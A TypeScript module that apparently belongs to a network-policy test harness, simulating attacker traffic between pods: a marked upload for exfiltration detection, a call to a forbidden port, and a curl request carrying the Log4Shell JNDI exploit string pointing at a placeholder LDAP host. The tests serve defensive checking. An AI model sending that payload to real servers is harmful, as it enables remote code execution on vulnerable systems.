/** What the attackers do: each returns how it went for them. */
import { setTimeout as sleep } from "node:timers/promises";
import { url } from "../mod.ts";
import type { Station } from "../mod.ts";
import { FORBIDDEN_PORT } from "./stage.ts";
import type { Stage } from "./stage.ts";
import { bytesText } from "./story.ts";
import { APPLICATION_PORT } from "./webServer.ts";

const MARK = "TOP-SECRET-CLOUDBERRY";
const MEGABYTE = 1e6;
/** An upload that nobody waits for the end of. */
export const UPLOAD_BYTES = 4_000 * MEGABYTE;
const UPLOAD_TIMEOUT_MS = 60_000;
const FIRST_UPLOAD_PORT = 9_001;
const ANSWER_TIMEOUT_MS = 5_000;
/** So long a connection that was answered may still be cut. */
const PATIENCE_MS = 2_000;

/** An HTTP request with an exploit string (CVE-2021-44228), by real curl, from outside to the server pod. */
export async function exploitRequest({ net, say }: Stage): Promise<{ exitCode: number | null; bodyBytes: number; words: string }> {
  const header = "X-Api-Version: ${jndi:ldap://203.0.113.66/a}";
  const target = url(net.server.ipv4, APPLICATION_PORT);
  say("outside", `curl -H '${header}' ${target}`);
  const command = ["curl", "-sS", "-m", "10", "-o", "/dev/null", "-w", "%{size_download}", "-H", header, target];
  const { code, stdout, stderr } = await net.outside.run(command, { check: false });
  return { exitCode: code, bodyBytes: Number(stdout), words: stderr.trim() };
}

let uploads = 0;

export interface Uploaded {
  /** As the client sees it; undefined after an orderly end. */
  readonly error: string | undefined;
  readonly arrivedBytes: number;
  /** Counted by the server: what it read behind the mark; -1 where it saw no mark. */
  readonly passedBytes: number;
  readonly bytesPerSecond: number;
}

/** An upload from the client to the server pod as fast as it goes, a marked document in the middle of what is shown. */
export async function upload({ client, server, net, say }: Stage, bytes: number): Promise<Uploaded> {
  const markAt = Math.min(bytes / 2, 100 * MEGABYTE);
  const listener = await server.listen({ port: FIRST_UPLOAD_PORT + uploads++, behaviour: "sink", trigger: MARK });
  const connection = await client.connect({ host: net.server.ipv4, port: listener.port });
  const accepted = await listener.acceptedFrom(connection.localPort);
  say("client", `uploads ${bytesText(bytes)} to the server pod; "${MARK}" stands ${bytesText(markAt)} into it`);
  const startedMs = performance.now();
  connection.flood({ bytes, trigger: MARK, triggerAt: markAt });
  if (bytes < UPLOAD_BYTES) {
    await accepted.received(bytes, UPLOAD_TIMEOUT_MS);
    connection.finish();
  }
  const { error } = await connection.closed;
  const { statistics } = await accepted.closed;
  const arrivedBytes = statistics.receivedBytes;
  return { error, arrivedBytes, passedBytes: statistics.bytesAfterTrigger, bytesPerSecond: Math.round((arrivedBytes * 1000) / (performance.now() - startedMs)) };
}

/**
 * A call from the client pod, with a word as soon as it is connected: the error that it sees, or "answered" where the
 * answer has come and the connection still lives after `patienceMs`.
 */
export async function callForbidden({ client, say }: Stage, host: Station, patienceMs = PATIENCE_MS): Promise<string> {
  say("client", `calls ${host.ipv4}:${FORBIDDEN_PORT}, which nobody may`);
  const connection = client.open({ host: host.ipv4, port: FORBIDDEN_PORT });
  const ended = connection.closed.then(({ error }) => error ?? "an orderly end");
  const spoken = connection.connected.then(async () => {
    connection.write("hello");
    await connection.received("hello".length, ANSWER_TIMEOUT_MS);
    return Promise.race([ended, sleep(patienceMs, "answered")]);
  });
  const answer = await Promise.race([ended, spoken.catch(() => ended)]);
  connection.destroy();
  return answer;
}
